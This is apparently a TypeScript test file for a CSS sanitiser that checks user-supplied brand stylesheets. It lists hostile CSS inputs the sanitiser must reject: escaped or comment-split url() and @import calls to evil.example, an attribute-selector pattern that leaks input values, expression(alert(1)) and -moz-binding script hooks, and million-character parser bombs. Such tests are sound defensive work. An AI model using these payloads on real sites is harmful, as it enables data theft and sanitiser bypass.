import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { checkCss, withAddresses } from '../../../../src/server/help/brand/css/check-css.ts';
import { CssError } from '../../../../src/server/help/brand/css/tokens.ts';

const isFile = (path: string) => /^[\w-]+\.(?:png|svg|woff2)$/.test(path);

const check = (css: string) => checkCss(css, isFile).map(({ path }) => path);

describe('what loads something from elsewhere is refused', () => {
  test.each([
    'a { background: url(https://evil.example/x.png) }',
    'a { background: url("https://evil.example/x.png") }',
    "a { background: URL( 'https://evil.example/x.png' ) }",
    'a { background: url(//evil.example/x.png) }',
    'a { background: url(/uploads/1) }',
    'a { background: url(../x.png) }',
    'a { background: url(x.png?a=1) }',
    'a { background: u\\72l(https://evil.example/) }',
    'a { background: \\75 rl("https://evil.example/") }',
    'a { background: url(h\\74tps://evil.example/) }',
    'a { background: u/**/rl(x) url(https://evil.example/) }',
    'input[value^="a"] { background: url("https://evil.example/?a") }',
    ':root { --x: url(https://evil.example/) }',
    'a { background: image-set("https://evil.example/x.png" 1x) }',
    'a { background: -webkit-image-set("https://evil.example/x.png" 1x) }',
    ':root { --x: "https://evil.example/"; background: image-set(var(--x) 1x) }',
    'a { background: image-set(attr(href) 1x) }',
    'a { background: image-set(linear-gradient(red, blue) 1x, ("https://evil.example/") 2x) }',
    'a { background: cross-fade("https://evil.example/x.png", red) }',
    'a { background: image("https://evil.example/x.png") }',
    'a { background: src("https://evil.example/x.png") }',
    // A browser reads an address that ends with the first bracket, and not a comment.
    'a { background: \\75 rl(/*) } b { background: url(https://evil.example/) } /**/) }',
    'a { background: ur\\6C\n(https://evil.example/) }',
    ':root { --x: { background: url(https://evil.example/) } }',
    ':root { --x: [(url( "https://evil.example/" ))] }',
    'a { background: image-set(url(x.png) 1x, type("image/png") "https://evil.example/" 2x) }',
    'a { background: \\69mage-set("https://evil.example/x.png" 1x) }',
    'a { background: url(https://evil.example/\\ ) }',
    ':root { --x: <!--url(https://evil.example/) }',
    ':root { --x: \u00a0url(https://evil.example/) }',
    '#url(a) { } a { background: url(https://evil.example/) }',
    'a { background: 1url( x ) url(https://evil.example/) }',
    'a { content: "\\"; background: url(https://evil.example/) }',
    'a { content: "x\n; background: url(https://evil.example/) }',
    'a { background: url("x.png" url(https://evil.example/)) }',
    'a { background: url("data:text/html,<script>") }',
    'a { background: url(data:text/css;base64,AAAA) }',
    '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
    '@import "https://evil.example/x.css";',
    '@import url(x.css);',
    '@\\69mport "x.css";',
    '@\\49 MPORT "x.css";',
    '@import/**/"x.css";',
    '@media screen { @import "x.css"; }',
    '@IMPORT "x.css";',
    '@namespace "https://evil.example/";',
    '@document url(https://evil.example/) { }',
  ])('%s', (css) => {
    expect(() => check(css)).toThrow(CssError);
  });
});

describe('what runs something is refused, and so is what browsers would repair', () => {
  test.each([
    'a { width: expression(alert(1)) }',
    'a { width: exp\\72 ession(alert(1)) }',
    'a { behavior: url(x.svg) }',
    'a { -moz-binding : url(x.svg) }',
    'a { -ms-behavior/**/: none }',
    'a { color: red',
    'a { color: red } }',
    'a { color: (red] }',
    'a { color: red } /* and so on',
    'a { content: "x',
    'a { content: "x\\"',
    'a { content: "x\\',
    'a { background: url(x.png\\',
    'a { color: red } /*/',
    'a { background: url(x.png',
    'a { background: url(a b) }',
    'a { color: red\0 }',
    '('.repeat(65) + ')'.repeat(65),
  ])('%s', (css) => {
    expect(() => check(css)).toThrow(CssError);
  });
});

test.each([
  ['a { background: url(x.png) no-repeat, url( "y.svg#icon" ) }', ['x.png', 'y.svg']],
  ['a { background: image-set("x.png" type("image/png") 1x, url(./y.png) 2x) }', ['x.png', 'y.png']],
  [
    '@font-face { font-family: "x"; src: local("X"), url(x.woff2) format("woff2"); unicode-range: U+0-FF, U+4?? }',
    ['x.woff2'],
  ],
  ['a { background: url("data:image/svg+xml,%3Csvg/%3E"), url(data:image/png;base64,AAAA) }', []],
  ['a { filter: url(#blur); scroll-behavior: smooth; content: "https://shop.example/" }', []],
  [
    '@media (width > 20em) { @supports (display: grid) { .å::before { content: "\\201C"; width: calc(1e3px - .5em) } } }',
    [],
  ],
  ['/* url(https://evil.example/) @import */ a:not([href^="https://"]) { color: #fff }', []],
])('%s is allowed', (css, files) => {
  expect(check(css)).toEqual(files);
});

test('the names of files become their addresses, and all else stays', () => {
  const css = `/* a */ a { background: url(x.png), url( "y.svg#i" ), image-set('z.png' 1x) }`;
  const files = checkCss(css, isFile);
  expect(withAddresses(css, files, ['../1/x.png', '../2/y.svg', '../3/z.png'])).toBe(
    `/* a */ a { background: url("../1/x.png"), url( "../2/y.svg#i" ), image-set("../3/z.png" 1x) }`,
  );
});

test('whatever stands in a sheet, it is read to its end or refused, in time that grows with it', () => {
  const piece = fc.constantFrom(
    'url(',
    ')',
    '"',
    "'",
    '\\',
    '\\75',
    '/*',
    '*/',
    '{',
    '}',
    '@',
    '#',
    '1',
    '-',
    'a',
    ' ',
    '\n',
    'image-set(',
    'å',
    '😀',
    '<!--',
    ';',
    ':',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      try {
        check(pieces.join(''));
      } catch (error) {
        expect(error).toBeInstanceOf(CssError);
      }
    }),
  );
  const endless = ['{', '[(', 'image-set(', 'url(', '/*', '\\75', '@media(', '"\\"'];
  for (const bomb of ['\\', '/**/', '1', 'a ', '"" ', '-', 'url(x.png) ', '{}', ...endless]) {
    const css = bomb.repeat(1_000_000 / bomb.length);
    try {
      check(css);
    } catch (error) {
      expect(error).toBeInstanceOf(CssError);
    }
  }
});
